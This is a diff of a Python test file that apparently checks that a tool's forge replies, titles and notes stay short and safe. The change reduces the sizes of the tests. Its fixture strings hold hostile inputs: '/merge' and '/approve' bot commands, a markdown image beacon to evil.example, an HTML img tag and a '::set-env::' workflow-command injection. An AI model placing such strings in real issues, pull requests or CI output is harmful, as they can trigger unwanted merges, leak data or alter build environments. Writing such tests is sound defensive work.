@@ -19,7 +19,7 @@ from pointsman.domain.run import Considered, Route, RunSpec
 
 LOUD = "@org/team @dependabot merge Fixes #1 o/r#2 GH-3 <img src=x> ![x](https://evil.example/?q=S)\n/merge\n"
 LOUD += "> /approve\n::set-env::x"
-LINE = "a\n# b\n/merge @org #1 <b> | `x` " + "y" * 10_000
+LINE = "a\n# b\n/merge @org #1 <b> | `x` " + "y" * 1_000
 
 
 def _loud_spec() -> RunSpec:
@@ -116,14 +116,14 @@ def test_f4_titles_are_one_short_line() -> None:
 
 def test_f8_no_text_is_longer_than_a_forge_takes() -> None:
     long = "word " * 4_000
-    many = tuple(replace(FINDING, id=f"f-{n}", message=long) for n in range(20))
+    many = tuple(replace(FINDING, id=f"f-{n}", message=long) for n in range(10))
     review = replace(REVIEW, findings=many, summary=long)
-    plan = replace(PLAN, goal=long, steps=(long,) * 200)
+    plan = replace(PLAN, goal=long, steps=("step " * 60,) * 400)
     earlier = replace(EARLIER, plan=plan, reviews=(review,))
     spec = replace(_loud_spec(), issue=replace(_loud_spec().issue, body=long))
     facts = replies.PageFacts(told.RUN_ID, "Fixes #12", spec, earlier, CALLS * 500)
     check = replies.check_order(told.RUN_ID, "ready", review, EVIDENCE, ground=GROUND)
-    report = NoteReport((LINE,) * 900, (LINE,) * 900, (LINE,) * 900, (NoteProblem(LINE, "x", long),) * 900, "")
+    report = NoteReport((LINE,) * 200, (LINE,) * 200, (LINE,) * 200, (NoteProblem(LINE, "x", long),) * 200, "")
     said = (
         replies.change_page(facts),
         replies.status_text(replace(VIEW, message=long), CALLS * 500),
